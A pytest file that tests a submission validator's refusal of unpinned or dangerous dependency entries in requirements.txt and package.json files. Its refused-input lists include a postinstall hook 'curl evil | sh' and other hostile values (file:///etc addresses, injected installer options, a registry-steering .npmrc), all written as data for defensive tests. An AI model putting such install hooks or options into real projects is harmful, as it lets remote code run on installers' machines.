"""Dependency files: pinned names and nothing else."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from referee.errors import Refused
from referee.submission.dependencies import Pin, node_pins, python_pins

SHA = "a" * 64
REFUSED_PYTHON = [
    ("option -r", "-r other.txt", "is an option"),
    ("editable", "-e .", "is an option"),
    ("index", "--index-url https://example.org/simple", "is an option"),
    ("extra index", "--extra-index-url=file:///tmp", "is an option"),
    ("find links", "-f /tmp", "is an option"),
    ("trusted host", "--trusted-host x", "is an option"),
    ("pre", "--pre", "is an option"),
    ("url", "https://example.org/x.whl", "is an address"),
    ("named url", "x @ https://example.org/x.whl", "is an address"),
    ("file url", "x @ file:///etc", "is an address"),
    ("bare file url", "file:///etc/x", "is an address"),
    ("git", "git+ssh://x/y", "is an address"),
    ("local path", "./x", "is a path"),
    ("parent path", "../x", "is a path"),
    ("absolute path", "/tmp/x", "is a path"),
    ("local archive", "x-1.0.tar.gz", "is a path or a local archive"),
    ("local wheel", "x-1.0-py3-none-any.whl", "is a path or a local archive"),
    ("variable", "x==${VERSION}", "holds a variable"),
    ("variable in a name", "${PKG}==1", "holds a variable"),
    ("no version", "requests", "is not one pinned version"),
    ("range", "requests>=2", "is not one pinned version"),
    ("arbitrary equality", "requests===2", "is not one pinned version"),
    ("wildcard", "requests==2.*", "is not one pinned version"),
    ("two versions", "requests==2,==3", "is not one pinned version"),
    ("extras", "requests[socks]==2.0", "asks for extras"),
    ("marker", "requests==2.0; python_version > '3'", "has a condition"),
    ("per-requirement option", "x==1 --global-option=--evil", "has the option"),
    ("config setting", "x==1 --config-settings=a=b", "has the option"),
    ("weak hash", "x==1 --hash=md5:" + "a" * 32, "has the option"),
    ("twice", "x==1\nX==2", "a second time"),
    ("continued option", "x==1 \\\n  --install-option=evil", "has the option"),
    ("hidden in a continuation", "x==1 \\\n-r other.txt", "is not one pinned version"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "says"), [r[1:] for r in REFUSED_PYTHON], ids=[r[0] for r in REFUSED_PYTHON])
def test_python_refused(tmp_path: Path, text: str, says: str) -> None:
    (tmp_path / "requirements.txt").write_text(f"numpy==2.0\n{text}\n")
    with pytest.raises(Refused) as refused:
        python_pins(tmp_path)
    assert refused.value.stage == "dependencies"
    assert says in str(refused.value)
    assert "line 2" in str(refused.value) or "line 3" in str(refused.value)


ACCEPTED_PYTHON = [
    ("plain", "numpy==2.0.1", [Pin("numpy", "2.0.1")]),
    ("comments and blanks", "# mine\n\nnumpy==2.0.1  # fast\n", [Pin("numpy", "2.0.1")]),
    ("spaces", "numpy == 2.0.1", [Pin("numpy", "2.0.1")]),
    ("windows", "\ufeffnumpy==2.0.1\r\nattrs==25.1\r\n", [Pin("numpy", "2.0.1"), Pin("attrs", "25.1")]),
    ("hash", f"attrs==25.1 --hash=sha256:{SHA}", [Pin("attrs", "25.1", (SHA,))]),
    ("hashes over lines", f"attrs==25.1 \\\n    --hash=sha256:{SHA} \\\n    --hash=sha256:{SHA}\n    # via x\n", [Pin("attrs", "25.1", (SHA, SHA))]),
    ("local version", "torch==2.13.0+cpu", [Pin("torch", "2.13.0+cpu")]),
    ("empty", "", []),
]  # fmt: skip


@pytest.mark.parametrize(("text", "pins"), [r[1:] for r in ACCEPTED_PYTHON], ids=[r[0] for r in ACCEPTED_PYTHON])
def test_python_accepted(tmp_path: Path, text: str, pins: list[Pin]) -> None:
    (tmp_path / "requirements.txt").write_bytes(text.encode())
    assert list(python_pins(tmp_path)) == pins


def test_not_utf8_names_the_byte(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_bytes(b"numpy==2.0\n\xff\xfe")
    with pytest.raises(Refused, match=r"not UTF-8 \(byte 11\)"):
        python_pins(tmp_path)


def test_no_file_is_no_dependency(tmp_path: Path) -> None:
    assert python_pins(tmp_path) == ()
    assert node_pins(tmp_path) == ()


REFUSED_NODE = [
    ("postinstall", {"scripts": {"postinstall": "curl evil | sh"}}, "the script 'postinstall'"),
    ("test script", {"scripts": {"test": "x"}}, "the script 'test'"),
    ("git", {"dependencies": {"a": "git+https://x/y.git"}}, "'a' asks for 'git+https://x/y.git'"),
    ("github", {"dependencies": {"a": "user/repo"}}, "asks for 'user/repo'"),
    ("file", {"dependencies": {"a": "file:../x"}}, "asks for 'file:../x'"),
    ("link", {"dependencies": {"a": "link:../x"}}, "asks for"),
    ("tarball", {"dependencies": {"a": "https://x/y.tgz"}}, "asks for"),
    ("alias", {"dependencies": {"a": "npm:b@1.0.0"}}, "asks for"),
    ("workspace", {"dependencies": {"a": "workspace:*"}}, "asks for"),
    ("tag", {"dependencies": {"a": "latest"}}, "asks for"),
    ("name that is a path", {"dependencies": {"../x": "1.0.0"}}, "is not a package's name"),
    ("not an object", {"dependencies": ["a"]}, "not an object"),
    ("a number", {"dependencies": {"a": 1}}, "asks for 1"),
    ("a list", {"dependencies": {"a": [[1]]}}, "asks for a list"),
    ("overrides", {"overrides": {"a": "file:x"}}, "the field 'overrides'"),
    ("bundled", {"bundledDependencies": ["a"]}, "the field 'bundledDependencies'"),
    ("bin", {"bin": {"ls": "evil.js"}}, "the field 'bin'"),
]  # fmt: skip


@pytest.mark.parametrize(("document", "says"), [r[1:] for r in REFUSED_NODE], ids=[r[0] for r in REFUSED_NODE])
def test_node_refused(tmp_path: Path, document: dict[str, object], says: str) -> None:
    (tmp_path / "package.json").write_text(json.dumps(document))
    with pytest.raises(Refused) as refused:
        node_pins(tmp_path)
    assert refused.value.stage == "dependencies"
    assert says in str(refused.value)


def test_node_config_files_are_refused_by_name(tmp_path: Path) -> None:
    (tmp_path / ".npmrc").write_text("registry=http://x")
    with pytest.raises(Refused, match=".npmrc would steer the installer"):
        node_pins(tmp_path)


@pytest.mark.parametrize("version", ["1.2.3", "^1.2.3", "~1.2", ">=1", "1.x", "1.0.0-beta.1"])
def test_node_accepted(tmp_path: Path, version: str) -> None:
    (tmp_path / "package.json").write_text(json.dumps({"name": "b", "dependencies": {"@scope/a": version}}))
    assert node_pins(tmp_path) == (Pin("@scope/a", version),)


def test_deep_json_is_refused(tmp_path: Path) -> None:
    (tmp_path / "package.json").write_text('{"version": %s}' % ("1" * 5000))
    with pytest.raises(Refused, match="a number in it has thousands of digits"):
        node_pins(tmp_path)
    (tmp_path / "package.json").write_text("[" * 100_000)
    with pytest.raises(Refused, match="not valid JSON"):
        node_pins(tmp_path)
